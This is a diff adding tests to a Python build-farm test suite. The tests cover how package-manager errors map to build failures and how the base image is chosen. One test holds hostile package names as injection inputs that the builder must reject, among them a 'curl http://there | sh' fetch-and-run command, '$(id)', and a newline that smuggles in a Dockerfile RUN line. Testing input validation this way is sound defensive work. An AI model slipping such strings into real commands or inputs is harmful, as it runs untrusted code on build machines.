@@ -2,7 +2,7 @@
 
 import pytest
 
-from farm.errors import Transient
+from farm.errors import BadInput, BuildFailed, Transient
 from farm.plan.facts import load_facts
 from farm.plan.recipe import BaseImage, Cross, Inputs
 from farm.settings import Settings
@@ -46,6 +46,33 @@ def test_an_image_is_reused_while_its_packages_are_the_same():
     assert len(shelf.built) == 2
 
 
+@pytest.mark.parametrize(
+    ("distro", "said", "raised"),
+    [
+        ("debian13", "E: Unable to locate package gccc", BuildFailed),
+        ("debian13", "E: Package 'gcc-9' has no installation candidate", BuildFailed),
+        ("debian13", "E: Failed to fetch http://mirror/gcc.deb 503  Service Unavailable", Transient),
+        ("debian13", "E: Failed to fetch http://mirror/InRelease Could not resolve 'mirror'", Transient),
+        ("rocky9", "Error: Unable to find a match: gccc", BuildFailed),
+        ("rocky9", "Error: Failed to download metadata for repo 'baseos'", Transient),
+        ("fedora44", "No match for argument: gccc", BuildFailed),
+        ("alpine3.22", "ERROR: unable to select packages:\n  gccc (no such package):", BuildFailed),
+        ("alpine3.22", "WARNING: fetching x: temporary error (try again later)\n  gcc (no such package):", Transient),
+    ],
+)
+def test_a_package_that_is_not_there_fails_a_cell_and_a_mirror_in_trouble_does_not(distro, said, raised):
+    shelf = BuildingShelf(LAYERS, QUERIED)
+    shelf.refused = f"the image python-farm/builder could not be built: exit 100\n{said}\nand more"
+    with pytest.raises(raised, match="could not be built"):
+        maker(shelf, distro).with_packages("builder", ("gcc",))
+
+
+@pytest.mark.parametrize("strange", ["gcc; curl http://there | sh", "$(id)", "-o=Dir::Etc=/x", "a\nRUN id", "", "a b"])
+def test_what_is_no_name_of_a_package_is_run_by_nobody(strange):
+    with pytest.raises(BadInput, match="is no name of a package"):
+        dockerfile("base:1", "get {packages}", ("gcc", strange))
+
+
 def test_a_distro_that_moved_on_is_told_package_by_package():
     planned = Inputs(BaseImage("base", "bootstrap", LAYERS), (("gcc", "4:14.2.0-1"), ("libc6", "2.41-11")))
     with pytest.raises(Transient, match=r"debian13 has changed .*: libc6 2\.41-11 -> 2\.41-12") as caught:
@@ -80,6 +107,23 @@ def test_a_run_goes_on_with_the_base_it_began_with():
     images = maker(shelf).images(("gcc",), (), yesterday)
     assert images.base == yesterday.base
     assert shelf.built[images.builder].startswith("FROM python-farm/base-debian13-amd64:20200101\n")
+
+
+@pytest.mark.parametrize(
+    ("set_to", "had", "asked"),
+    [("auto", "pull", "pull"), ("auto", "bootstrap", "bootstrap"), ("bootstrap", "pull", "bootstrap")],
+)
+def test_a_base_is_had_as_the_plans_own_was_where_that_is_left_open(set_to, had, asked, monkeypatch):
+    """Else a registry that is gone for a minute gives another base, of which no cell of the plan can be built."""
+    seen = []
+    base = BaseImage("base-x:1", "pull", LAYERS)
+    monkeypatch.setattr("workers.build.image.ensure_base", lambda *words: seen.append(words[3].base_image) or base)
+    elsewhere = Inputs(BaseImage("debian:13-slim", had, ("sha256:gone",)), (("gcc", "4:14.2.0-1"), ("libc6", "2.41-12")))
+    shelf, distro = BuildingShelf(LAYERS, QUERIED), load_facts().distros["debian13"]
+    made = ImageMaker(distro, "amd64", shelf, Settings(base_image=set_to), lambda _: None)
+    made.resolve(("gcc",), elsewhere)
+    made.resolve(("gcc",))
+    assert seen == [asked, set_to]
 
 
 @pytest.fixture
